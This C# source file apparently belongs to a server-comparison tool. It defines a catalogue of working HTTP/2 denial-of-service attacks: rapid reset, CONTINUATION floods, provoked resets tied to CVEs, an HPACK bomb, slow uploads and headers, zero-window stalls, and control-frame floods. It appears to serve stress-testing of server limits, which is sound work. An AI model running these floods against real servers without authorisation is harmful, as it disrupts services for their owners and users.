namespace Tipi.Compare.Siege.Http2;

/// <summary>Every attack on HTTP/2. A flood lasts long enough to see its cost, a wait until the limits act.</summary>
internal static class Http2Attacks
{
    private const int FrameBytes = 16 * 1024;
    private const ushort HeaderTableSize = 1;
    private const ushort InitialWindowSize = 4;
    private const int Streams = 100;
    private const uint LargestWindow = int.MaxValue;
    private const uint FirstWindow = 65535;

    // The value fills the dynamic table of 4,096 bytes but for the name and the 32 that an entry counts.
    private const int BombBytes = 4000;
    private const int BombIndex = 62;

    private static readonly byte[] Ones = new byte[FrameBytes];

    public static IReadOnlyList<Http2Attack> All { get; } =
    [
        new("h2-rapid-reset", "streams opened and reset (CVE-2023-44487)", 8, 2,
            Flood((foe, frames) => Open(foe, frames, "/", out var stream).Reset(stream))),
        new("h2-rapid-reset-work", "the same where a handler works on for 0.2 s", 8, 3,
            Flood((foe, frames) => Open(foe, frames, "/work", out var stream).Reset(stream))),
        Provoke("zero", "a window update of 0", (frames, stream) => frames.WindowUpdate(stream, 0)),
        Provoke("overflow", "a window beyond 2^31", (frames, stream) => frames.WindowUpdate(stream, LargestWindow)),
        Provoke("closed", "DATA after its end", (frames, stream) => frames.Data(stream, default, endStream: true)
            .Data(stream, Ones.AsSpan(0, 1))),
        Provoke("self", "a stream that depends on itself", (frames, stream) => frames.Priority(stream, stream)),
        Provoke("size", "PRIORITY of 4 bytes",
            (frames, stream) => frames.Frame(FrameType.Priority, 0, stream, Ones.AsSpan(0, 4))),
        Provoke("trailers", "a pseudo-header field in trailers",
            (frames, stream) => frames.Headers(stream, new FieldBlock().Indexed(2).Written)),
        new("h2-provoked-length", "resets provoked by more content than declared", 8, 1, Flood((foe, frames) =>
        {
            var block = Request(foe, "/work", isPost: true).Field("content-length", "1");
            var stream = foe.NextStream();
            frames.Headers(stream, block.Written, endStream: false).Data(stream, Ones.AsSpan(0, 2));
        })),
        new("h2-continuation", "a field section without end (CVE-2024-27316)", 20, 2, foe => EndlessAsync(
            foe, new FieldBlock().Repeat(16, block => block.Field("a", new string('b', 1000))).Written.ToArray())),
        new("h2-continuation-empty", "a field section of empty frames without end", 8, 2, foe => EndlessAsync(foe, [])),
        new("h2-hpack-bomb", "an entry of 4 KB, then 15,000 references to it in a section", 20, 2, async foe =>
        {
            var planted = Request(foe, "/").Field("x", new string('y', BombBytes), indexes: true);
            await foe.SendAsync(frames => frames.Headers(foe.NextStream(), planted.Written));
            var bomb = Request(foe, "/").Repeat(15_000, block => block.Indexed(BombIndex));
            await ForeverAsync(foe, frames => frames.Headers(foe.NextStream(), bomb.Written));
        }),
        Sections("h2-many-fields", "4,000 fields of a byte in a section", foe =>
            Request(foe, "/").Repeat(4000, block => block.Field("a", ""))),
        Sections("h2-long-list", "40 KB of fields in a section", foe =>
            Request(foe, "/").Repeat(10, block => block.Field("a", new string('b', 4000)))),
        new("h2-table-size", "the size of the dynamic table set twice in every section", 8, 2,
            Flood((foe, frames) => frames.Headers(foe.NextStream(), Request(foe, "/", resizes: true).Written))),
        new("h2-empty-data", "DATA without content, without end", 8, 2, async foe =>
        {
            var stream = foe.NextStream();
            await foe.SendAsync(frames =>
                frames.Headers(stream, Request(foe, "/upload", isPost: true).Written, endStream: false));
            await ManyAsync(foe, frames => frames.Data(stream, default));
        }),
        new("h2-settings", "SETTINGS", 8, 2, Flood((_, frames) => frames.Settings((HeaderTableSize, 4096)))),
        new("h2-settings-unread", "SETTINGS, acknowledgements not read", 8, 2,
            Flood((_, frames) => frames.Settings((HeaderTableSize, 4096)))) { Reads = false },
        new("h2-ping", "PING", 8, 2, Flood((_, frames) => frames.Ping())),
        new("h2-ping-unread", "PING, answers not read", 8, 2, Flood((_, frames) => frames.Ping())) { Reads = false },
        new("h2-priority", "PRIORITY", 8, 2, Flood((foe, frames) => frames.Priority(foe.NextStream(), 0))),
        new("h2-priority-update", "PRIORITY_UPDATE", 8, 2,
            Flood((foe, frames) => frames.PriorityUpdate(foe.NextStream()))),
        new("h2-window-update", "WINDOW_UPDATE by a byte", 8, 2, Flood((_, frames) => frames.WindowUpdate(0, 1))),
        new("h2-unknown", "frames of an unknown type", 8, 2,
            Flood((_, frames) => frames.Frame(FrameType.Unknown, 0, 0, Ones.AsSpan(0, 100)))),
        new("h2-goaway", "goes on after its own GOAWAY", 8, 2, async foe =>
        {
            await foe.SendAsync(frames => frames.GoAway());
            await ManyAsync(foe, frames => Open(foe, frames, "/", out _));
        }),
        new("h2-refused", "streams beyond the limit, 100 open uploads", 8, 2, async foe =>
        {
            await foe.SendAsync(frames => OpenUploads(foe, frames));
            await ManyAsync(foe, frames => Open(foe, frames, "/", out _));
        }),
        new("h2-zero-window", "100 large answers each, window 0", 50, 6, async foe =>
        {
            await foe.SendAsync(frames => AskAll(foe, frames));
            await foe.WaitAsync();
        })
        {
            Settings = [(InitialWindowSize, 0)],
        },
        new("h2-one-byte", "100 large answers each, a byte at a time", 20, 6, OneByteAsync)
        {
            Settings = [(InitialWindowSize, 1)],
        },
        new("h2-unread", "100 large answers each, wide windows, nothing read", 20, 6, async foe =>
        {
            await foe.SendAsync(frames => AskAll(foe, frames.WindowUpdate(0, LargestWindow - FirstWindow)));
            await foe.WaitAsync();
        }) { Settings = [(InitialWindowSize, LargestWindow)], Reads = false },
        new("h2-open-uploads", "100 uploads each, without a byte", 50, 6, async foe =>
        {
            await foe.SendAsync(frames => OpenUploads(foe, frames));
            await foe.WaitAsync();
        }),
        new("h2-slow-uploads", "100 uploads each, a byte a second", 50, 6, SlowUploadsAsync),
        new("h2-slow-headers", "a field section that does not go on", 1000, 7, async foe =>
        {
            await foe.SendAsync(frames => frames.LongHeaders(
                foe.NextStream(), Request(foe, "/").Written, FrameBytes, isWhole: false));
            await foe.WaitAsync();
        }),
        new("h2-silent", "preface and settings, nothing more", 1000, 12, foe => foe.WaitAsync()),
        new("h2-half-preface", "half a preface", 1000, 7, async foe =>
        {
            await foe.SendRawAsync("PRI * HTTP/2"u8.ToArray());
            await foe.WaitAsync();
        }) { Settings = null },
        new("h2-tls-rapid-reset", "over TLS: streams opened and reset", 8, 2,
            Flood((foe, frames) => Open(foe, frames, "/", out var stream).Reset(stream))) { IsTls = true },
        new("h2-tls-ping-unread", "over TLS: PING, answers not read", 8, 2, Flood((_, frames) => frames.Ping()))
        {
            IsTls = true, Reads = false,
        },
        new("h2-tls-zero-window", "over TLS: 100 large answers each, window 0", 50, 6, async foe =>
        {
            await foe.SendAsync(frames => AskAll(foe, frames));
            await foe.WaitAsync();
        }) { IsTls = true, Settings = [(InitialWindowSize, 0)] },
    ];

    // CVE-2025-8671: the server resets the stream that a handler works for.
    private static Http2Attack Provoke(string name, string title, Action<FrameWriter, int> fault) =>
        new($"h2-provoked-{name}", $"resets provoked by {title} (CVE-2025-8671)", 8, 1, Flood((foe, frames) =>
        {
            var stream = foe.NextStream();
            frames.Headers(stream, Request(foe, "/work", isPost: true).Written, endStream: false);
            fault(frames, stream);
        }));

    // The same section on one stream after another.
    private static Http2Attack Sections(string name, string title, Func<Foe, FieldBlock> block) =>
        new(name, title, 20, 2, foe =>
        {
            var section = block(foe).Written.ToArray();
            return ForeverAsync(foe, frames => frames.LongHeaders(foe.NextStream(), section, FrameBytes));
        });

    private static Func<Foe, Task> Flood(Action<Foe, FrameWriter> write) =>
        foe => ManyAsync(foe, frames => write(foe, frames));

    private static Task ManyAsync(Foe foe, Action<FrameWriter> write) => ForeverAsync(foe, frames =>
    {
        for (var i = 0; i < 100; i++)
            write(frames);
    });

    private static async Task ForeverAsync(Foe foe, Action<FrameWriter> write)
    {
        while (true)
            await foe.SendAsync(write);
    }

    private static async Task EndlessAsync(Foe foe, byte[] piece)
    {
        var stream = foe.NextStream();
        await foe.SendAsync(frames =>
            frames.LongHeaders(stream, Request(foe, "/").Written, FrameBytes, isWhole: false));
        await ManyAsync(foe, frames => frames.Frame(FrameType.Continuation, 0, stream, piece));
    }

    private static async Task OneByteAsync(Foe foe)
    {
        await foe.SendAsync(frames => AskAll(foe, frames));
        while (true)
        {
            await foe.SendAsync(frames =>
            {
                for (var stream = 1; stream < 2 * Streams; stream += 2)
                    frames.WindowUpdate(stream, 1);
                frames.WindowUpdate(0, Streams);
            });
            await Task.Delay(10, foe.End);
        }
    }

    private static async Task SlowUploadsAsync(Foe foe)
    {
        await foe.SendAsync(frames => OpenUploads(foe, frames));
        while (true)
        {
            await Task.Delay(TimeSpan.FromSeconds(1), foe.End);
            await foe.SendAsync(frames =>
            {
                for (var stream = 1; stream < 2 * Streams; stream += 2)
                    frames.Data(stream, Ones.AsSpan(0, 1));
            });
        }
    }

    private static void AskAll(Foe foe, FrameWriter frames)
    {
        for (var i = 0; i < Streams; i++)
            Open(foe, frames, "/big", out _);
    }

    private static void OpenUploads(Foe foe, FrameWriter frames)
    {
        for (var i = 0; i < Streams; i++)
            frames.Headers(foe.NextStream(), Request(foe, "/upload", isPost: true).Written, endStream: false);
    }

    private static FrameWriter Open(Foe foe, FrameWriter frames, string path, out int stream) =>
        frames.Headers(stream = foe.NextStream(), Request(foe, path).Written);

    private static FieldBlock Request(Foe foe, string path, bool isPost = false, bool resizes = false) =>
        FieldBlock.Request(path, isPost, foe.IsTls, resizes);
}
